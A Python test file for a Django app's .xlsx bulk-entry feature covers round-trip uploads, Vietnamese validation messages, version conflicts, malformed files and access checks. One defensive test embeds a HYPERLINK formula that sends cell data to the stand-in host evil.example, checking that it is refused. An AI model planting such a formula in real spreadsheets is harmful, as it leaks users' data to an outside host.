"""Entry from the .xlsx template: round trip, row errors, stale versions, bad files, access."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.testing import login_verified
from audit.models import AuditRecord
from catalogue.models import Indicator
from datavalues.models import Qualifier
from imports.xlsx_entry import DATA_SHEET, HEADER
from lib.vnnumbers import QUALIFIER_WORDS
from rounds import actions
from rounds.models import DataValue, ReportStatus
from rounds.sheet import build_sheet
from rounds.testing import make_report, make_round, make_value

pytestmark = pytest.mark.django_db
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def report(cast):
    round_ = make_round(cast, 2023, ["trainings", "students_reached_pct"])
    report = make_report(round_, cast.bdt, ReportStatus.DRAFT)
    make_value("trainings", cast.bdt, 4, period=round_.period, report=report)
    return report


def download(client, report) -> bytes:
    response = client.get(reverse("imports:xlsx_template", args=[report.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return response.content


def fill(content: bytes, entries: dict[tuple[str, str], tuple]) -> bytes:
    """Set (value, qualifier) on the rows whose (indicator code, place name) match."""
    book = load_workbook(io.BytesIO(content))
    sheet = book[DATA_SHEET]
    for row in sheet.iter_rows(min_row=2):
        key = (row[0].value, row[4].value)
        if key in entries:
            row[5].value, row[6].value = entries[key]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client, report, content: bytes, name: str = "so-lieu.xlsx"):
    url = reverse("imports:xlsx_entry", args=[report.pk])
    return client.post(url, {"file": SimpleUploadedFile(name, content, content_type=XLSX)})


def stored(report) -> dict[tuple[str, str], tuple[Decimal, str]]:
    return {
        (v.indicator.code, v.place.name): (v.value, v.qualifier)
        for v in DataValue.objects.filter(agency=report.agency).select_related("indicator", "place")
    }


def test_template_lists_every_cell_with_locked_keys_and_a_qualifier_list(client, cast, report):
    login_verified(client, cast.officer)
    book = load_workbook(io.BytesIO(download(client, report)))
    sheet = book[DATA_SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert len(rows) - 1 == len(build_sheet(report).cells) == 6  # 2 indicators x 3 places
    assert rows[1][:6] == ("trainings", rows[1][1], "lớp", cast.province.pk, "Bắc Giang", 4)
    assert rows[1][6] == "chính xác"
    assert sheet.protection.sheet
    assert sheet["A2"].protection.locked and sheet["D2"].protection.locked
    assert not sheet["F2"].protection.locked and not sheet["G2"].protection.locked
    (rule,) = sheet.data_validations.dataValidation
    assert rule.type == "list" and "G2:G7" in str(rule.sqref)
    words = ["chính xác", *QUALIFIER_WORDS["more_than"], *QUALIFIER_WORDS["about"]]
    assert book.defined_names[rule.formula1].value.endswith(f"$B$3:$B${2 + len(words)}")
    meta = book["tonghop"]
    assert [c.value for c in meta["B"][2:]] == words


def test_filled_template_round_trips_into_the_draft_with_audit_records(client, cast, report):
    login_verified(client, cast.officer)
    content = fill(
        download(client, report),
        {
            ("trainings", "Bắc Giang"): (7, "Chính xác"),
            ("trainings", "Sơn Động"): ("3", None),
            ("students_reached_pct", "Bắc Giang"): ("12,5", "hơn"),
            ("students_reached_pct", "Lục Ngạn"): ("43.000", "khoảng"),
        },
    )
    response = upload(client, report, content)
    assert response.status_code == 400  # 43.000 is over 100%
    content = fill(content, {("students_reached_pct", "Lục Ngạn"): (80, "khoảng")})
    response = upload(client, report, content)
    assert response.status_code == 302
    assert response["Location"] == reverse("rounds:report_detail", args=[report.pk])
    assert stored(report) == {
        ("trainings", "Bắc Giang"): (Decimal(7), Qualifier.EXACT),
        ("trainings", "Sơn Động"): (Decimal(3), Qualifier.EXACT),
        ("students_reached_pct", "Bắc Giang"): (Decimal("12.5"), Qualifier.MORE_THAN),
        ("students_reached_pct", "Lục Ngạn"): (Decimal(80), Qualifier.ABOUT),
    }
    report.refresh_from_db()
    assert report.version == 1
    changes = AuditRecord.objects.filter(action="value", actor=cast.officer)
    assert sorted((r.old, r.new) for r in changes) == [
        ("", "3"),
        ("", "hơn 12,5"),
        ("", "khoảng 80"),
        ("4", "7"),
    ]
    # The next template carries the new version and the stored values.
    rows = list(
        load_workbook(io.BytesIO(download(client, report)))[DATA_SHEET].iter_rows(values_only=True)
    )
    assert ("trainings", "Bắc Giang", 7) in {(r[0], r[4], r[5]) for r in rows}
    # The agency's word goes out as it came in.
    assert ("students_reached_pct", "Bắc Giang", 12.5, "hơn") in {
        (r[0], r[4], r[5], r[6]) for r in rows
    }


def test_blank_value_clears_the_cell(client, cast, report):
    login_verified(client, cast.officer)
    content = fill(download(client, report), {("trainings", "Bắc Giang"): (None, None)})
    assert upload(client, report, content).status_code == 302
    assert stored(report) == {}


def test_a_bad_row_stores_nothing_and_names_the_row_and_reason(client, cast, report):
    login_verified(client, cast.officer)
    content = fill(
        download(client, report),
        {
            ("trainings", "Bắc Giang"): (9, None),
            ("trainings", "Sơn Động"): ("hai", None),
            ("trainings", "Lục Ngạn"): (-2, None),
            ("students_reached_pct", "Bắc Giang"): (150, None),
            ("students_reached_pct", "Sơn Động"): ("2,5", "đại khái"),
        },
    )
    book = load_workbook(io.BytesIO(content))
    book[DATA_SHEET].append(["no_such_indicator", "", "", cast.province.pk, "", 1, None])
    book[DATA_SHEET].append(["trainings", "", "", 999999, "", 1, None])
    out = io.BytesIO()
    book.save(out)
    response = upload(client, report, out.getvalue())
    text = response.content.decode()
    assert response.status_code == 400
    assert "Tệp chưa hợp lệ, chưa lưu số liệu nào." in text
    # Rows 2-4: trainings at the province, Lục Ngạn, Sơn Động; rows 5-7 the rate likewise.
    assert "Dòng 3: Số liệu không được âm." in text
    assert "Dòng 4: «hai» không phải là số hợp lệ" in text
    assert "Dòng 5: Tỷ lệ phải từ 0 đến 100%." in text
    assert "Dòng 7: mức độ chính xác «đại khái» không hợp lệ" in text
    assert "Dòng 8: chỉ tiêu «no_such_indicator» không có trong báo cáo này." in text
    assert "Dòng 9: địa bàn «999999» không thuộc chỉ tiêu «trainings»" in text
    assert stored(report) == {("trainings", "Bắc Giang"): (Decimal(4), Qualifier.EXACT)}
    assert not AuditRecord.objects.filter(action="value").exists()


def test_count_with_decimals_is_refused(client, cast, report):
    login_verified(client, cast.officer)
    content = fill(download(client, report), {("trainings", "Sơn Động"): ("2,5", None)})
    text = upload(client, report, content).content.decode()
    assert "Dòng 4: «" in text and "» là số đếm nên phải là số nguyên." in text
    assert stored(report) == {("trainings", "Bắc Giang"): (Decimal(4), Qualifier.EXACT)}


def test_stale_template_is_refused_with_the_conflict_message(client, cast, report):
    login_verified(client, cast.officer)
    content = fill(download(client, report), {("trainings", "Bắc Giang"): (8, None)})
    trainings = Indicator.objects.get(code="trainings").pk
    meanwhile = {(trainings, cast.son_dong.pk): actions.CellInput(Decimal(1))}
    actions.save_draft(report, cast.officer, actions.Draft(values=meanwhile), version=0)
    response = upload(client, report, content)
    assert response.status_code == 409
    assert actions.CONFLICT_MESSAGE in response.content.decode()
    assert stored(report)[("trainings", "Bắc Giang")] == (Decimal(4), Qualifier.EXACT)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("so-lieu.csv", b"indicator,value\n", "không phải tệp Excel .xlsx"),
        ("so-lieu.xlsx", b"PK\x03\x04 not really a zip", "bị hỏng"),
        ("so-lieu.xlsx", b"plain text", "không phải tệp Excel .xlsx hợp lệ"),
    ],
)
def test_file_that_is_not_an_xlsx_is_refused(client, cast, report, name, content, message):
    login_verified(client, cast.officer)
    response = upload(client, report, content, name=name)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_file_over_the_size_limit_is_refused(client, cast, report, settings):
    login_verified(client, cast.officer)
    content = download(client, report)
    settings.TONGHOP_MAX_UPLOAD_BYTES = len(content) - 1
    response = upload(client, report, content)
    assert response.status_code == 400
    assert "Tệp quá lớn" in response.content.decode()


def test_a_workbook_that_is_not_the_template_is_refused(client, cast, report):
    login_verified(client, cast.officer)
    book = load_workbook(io.BytesIO(download(client, report)))
    del book["tonghop"]
    out = io.BytesIO()
    book.save(out)
    response = upload(client, report, out.getvalue())
    assert "không phải tệp mẫu nhập số liệu" in response.content.decode()


def test_other_agencys_officer_gets_404(client, cast, report):
    login_verified(client, cast.other_officer)
    assert client.get(reverse("imports:xlsx_template", args=[report.pk])).status_code == 404
    assert client.get(reverse("imports:xlsx_entry", args=[report.pk])).status_code == 404


def test_coordinator_cannot_upload(client, cast, report):
    login_verified(client, cast.officer)
    content = fill(download(client, report), {("trainings", "Bắc Giang"): (8, None)})
    report.status = ReportStatus.SUBMITTED
    report.save()
    login_verified(client, cast.coordinator)
    assert upload(client, report, content).status_code == 404
    assert stored(report)[("trainings", "Bắc Giang")] == (Decimal(4), Qualifier.EXACT)


def test_report_no_longer_editable_sends_the_officer_back(client, cast, report):
    login_verified(client, cast.officer)
    content = download(client, report)
    report.status = ReportStatus.SUBMITTED
    report.save()
    response = upload(client, report, content)
    assert response.status_code == 302
    assert client.get(reverse("imports:xlsx_template", args=[report.pk])).status_code == 302


def test_report_page_links_the_bulk_entry(client, cast, report):
    login_verified(client, cast.officer)
    page = client.get(reverse("rounds:report_detail", args=[report.pk])).content.decode()
    assert reverse("imports:xlsx_entry", args=[report.pk]) in page


def test_a_figure_that_reads_two_ways_is_refused_with_both_readings(client, cast, report):
    login_verified(client, cast.officer)
    content = fill(download(client, report), {("trainings", "Bắc Giang"): ("43,000", None)})
    response = upload(client, report, content)
    text = response.content.decode()
    assert response.status_code == 400
    assert (
        "Dòng 2: «43,000» có thể hiểu là 43 hoặc 43.000. Nếu là bốn mươi ba nghìn, "
        "hãy gõ 43.000; nếu là 43, hãy gõ 43." in text
    )
    assert stored(report) == {("trainings", "Bắc Giang"): (Decimal(4), Qualifier.EXACT)}


def test_formula_cells_are_refused_by_cell_and_never_read_as_empty(client, cast, report):
    login_verified(client, cast.officer)
    book = load_workbook(io.BytesIO(download(client, report)))
    sheet = book[DATA_SHEET]
    sheet["F2"] = "=1+1"  # saved without a cached value: read as data it would clear the 4
    sheet["G3"] = '=HYPERLINK("http://evil.example/?d="&A3,"x")'
    out = io.BytesIO()
    book.save(out)
    response = upload(client, report, out.getvalue())
    text = response.content.decode()
    assert response.status_code == 400
    assert "Ô F2 chứa công thức («=1+1»)" in text
    assert "Ô G3 chứa công thức" in text
    assert stored(report) == {("trainings", "Bắc Giang"): (Decimal(4), Qualifier.EXACT)}
    assert not AuditRecord.objects.filter(action="value").exists()


def test_template_holds_the_exact_stored_value(client, cast, report):
    make_value(
        "students_reached_pct", cast.bdt, "33.2417", period=report.round.period, report=report
    )
    login_verified(client, cast.officer)
    rows = load_workbook(io.BytesIO(download(client, report)))[DATA_SHEET].iter_rows(
        min_row=2, values_only=True
    )
    values = {(row[0], row[4]): row[5] for row in rows}
    assert Decimal(str(values["students_reached_pct", "Bắc Giang"])) == Decimal("33.2417")


def test_a_cell_far_below_the_template_is_refused_before_the_rows_are_walked(client, cast, report):
    """A 10 KB file with one cell at row 1,000,000: refused from the cells the file holds."""
    login_verified(client, cast.officer)
    book = load_workbook(io.BytesIO(download(client, report)))
    book[DATA_SHEET].cell(row=1_000_000, column=1, value="x")
    out = io.BytesIO()
    book.save(out)
    assert len(out.getvalue()) < 20_000
    response = upload(client, report, out.getvalue())
    assert response.status_code == 400
    assert "Tệp có 1.000.000 dòng, vượt giới hạn 20.000 dòng" in response.content.decode()
    assert stored(report) == {("trainings", "Bắc Giang"): (Decimal(4), Qualifier.EXACT)}


def test_a_sheet_too_large_for_any_template_is_refused_unread(client, cast, report, monkeypatch):
    from imports import xlsx_entry

    login_verified(client, cast.officer)
    content = download(client, report)
    monkeypatch.setattr(xlsx_entry, "MAX_SHEET_BYTES", 1_000)  # the template's sheet is larger
    response = upload(client, report, content)
    assert response.status_code == 400
    assert "vượt giới hạn 20.000 dòng" in response.content.decode()
